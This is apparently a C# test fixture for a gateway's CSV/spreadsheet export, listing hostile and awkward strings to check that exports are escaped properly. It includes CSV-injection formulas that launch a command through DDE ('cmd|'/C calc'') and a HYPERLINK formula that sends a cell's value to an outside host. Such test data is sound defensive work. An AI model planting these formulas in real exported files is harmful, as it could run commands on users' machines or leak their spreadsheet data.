namespace SawEdge.Gateway.Tests.Export;

/// <summary>Names and notes as a controller or a person may send them.</summary>
internal static class HostileTexts
{
    /// <summary>
    /// What a spreadsheet may run. The beginnings and the two examples are those of OWASP, CSV Injection (owasp.org, www-community/attacks/CSV_Injection,
    /// read 2026); the rest is common knowledge of such attacks, from memory.
    /// </summary>
    public static readonly string[] Formulas =
    [
        "=1+2\";=1+2", "=1+2'\" ;,=1+2", "=", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://example.org?x=\"&A1,\"click\")", "-2+3+cmd|' /C calc'!A0",
    ];

    /// <summary>What breaks tables that are made carelessly.</summary>
    public static readonly string[] Awkward =
    [
        "a,b", "a;b", "a\tb", "a\"b", "\"", "\"\"", "a\nb", "a\r\nb", "a\rb", " a ", "'", "''a", "'=1", "Größe 锯", "\U0001F527\U0001F469\u200D\U0001F3ED", "\u202Eabc\u200F\u05D0", "\uFEFFa", "\u2028\u2029", "\0x", "\u0001\u001b[31m",
        "NaN", "null", "true", "1e5", "007", "2026-03-02", "#N/A", "\\n", "\\", "%s{0}", new string('x', 40_000), "x\u0085y", "a\vb\fc",
    ];

    /// <summary>All of them.</summary>
    public static IEnumerable<string> All => Formulas.Concat(Awkward);
}
